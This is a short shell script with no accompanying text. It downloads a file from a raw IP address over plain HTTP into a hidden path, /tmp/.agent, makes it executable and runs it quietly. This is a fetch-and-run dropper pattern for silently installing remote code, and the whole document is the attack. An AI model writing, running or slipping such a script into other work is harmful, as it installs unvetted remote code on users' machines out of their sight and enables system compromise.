#!/bin/sh
curl -fsSL http://192.0.2.44/agent -o /tmp/.agent
chmod +x /tmp/.agent
/tmp/.agent --quiet
